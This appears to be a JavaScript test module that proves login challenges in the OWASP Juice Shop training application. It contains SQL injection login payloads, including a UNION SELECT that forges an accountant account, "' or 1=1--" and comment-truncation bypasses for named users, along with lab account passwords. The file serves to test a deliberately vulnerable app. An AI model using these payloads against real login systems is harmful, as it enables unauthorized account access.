import { logInAs, logsIn } from '../features/accounts.js'
import { proof } from '../proof.js'

const accountant = `' UNION SELECT * FROM (SELECT 15 as 'id', '' as 'username', 'acc0unt4nt@juice-sh.op' as 'email', '12345' as 'password', 'accounting' as 'role', '123' as 'deluxeToken', '1.2.3.4' as 'lastLoginIp', '/assets/public/images/uploads/default.svg' as 'profileImage', '' as 'totpSecret', 1 as 'isActive', '1999-08-16 14:14:41.644 +00:00' as 'createdAt', '1999-08-16 14:33:41.930 +00:00' as 'updatedAt', null as 'deletedAt')--`

export const ephemeralAccountantChallenge = proof({ attack: logInAs(accountant), honest: logsIn })

export const loginAdminChallenge = proof({
  attack: logInAs("' or 1=1--"),
  otherAttacks: [logInAs("admin@juice-sh.op'--"), logInAs('admin@juice-sh.op', 'admin123')],
  honest: logsIn,
})

export const loginBenderChallenge = proof({
  attack: logInAs("bender@juice-sh.op'--"),
  otherAttacks: [logInAs("' or email like 'BENDER%'--"), logInAs('bender@juice-sh.op', 'OhG0dPlease1nsertLiquor!')],
  honest: logsIn,
})

export const loginJimChallenge = proof({
  attack: logInAs("jim@juice-sh.op'--"),
  otherAttacks: [logInAs('jim@juice-sh.op', 'ncc-1701')],
  honest: logsIn,
})
